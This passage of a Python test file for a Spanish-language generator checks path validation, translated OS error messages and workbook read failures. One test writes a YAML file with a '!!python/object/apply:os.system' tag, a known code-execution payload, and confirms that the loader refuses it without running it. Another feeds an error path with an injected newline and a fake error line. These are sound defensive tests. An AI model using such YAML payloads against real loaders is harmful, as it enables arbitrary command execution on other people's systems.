    existing = tmp_path / "passwd"
    existing.write_text("root:x:0:0\n")
    with pytest.raises(ValueError, match="ya existe y no es una carpeta"):
        synth(10, existing)
    with pytest.raises(ValueError, match="no es un archivo .csv"):
        synth_annex(VALID / YAML, existing)
    assert existing.read_text() == "root:x:0:0\n"


def test_synth_refuses_a_python_tag_in_spanish_and_never_runs_it(tmp_path):
    from generator.tools.synth import synth_annex

    marker = tmp_path / "pwned"
    acuerdo = tmp_path / "acuerdo.yml"
    acuerdo.write_text(f"clave: !!python/object/apply:os.system ['touch {marker}']\n")
    with pytest.raises(ValueError, match="línea 1: hay una etiqueta"):
        synth_annex(acuerdo, tmp_path / "anexo.csv")
    assert not marker.exists()


def test_an_os_error_is_said_in_spanish():
    import errno
    import os

    from generator.common.text import os_error

    full = OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), "/srv/sitio/index.html")
    assert os_error(full) == "no queda espacio en el disco: /srv/sitio/index.html"
    assert os_error(PermissionError(errno.EACCES, "Permission denied", "/srv/x\nError: falso")) == "no hay permiso para usar este archivo o carpeta: /srv/x\\nError: falso"


def test_a_workbook_is_a_finding_when_no_process_can_be_started(data, monkeypatch):
    import errno
    import os

    def no_fork():
        raise BlockingIOError(errno.EAGAIN, "Resource temporarily unavailable")

    _as_xlsx(data)
    monkeypatch.setattr(os, "fork", no_fork)
    findings = load_data_dir(data).findings
    assert only(findings, "archivo_ilegible").message.startswith("el libro no se pudo leer: el sistema no tiene recursos libres")
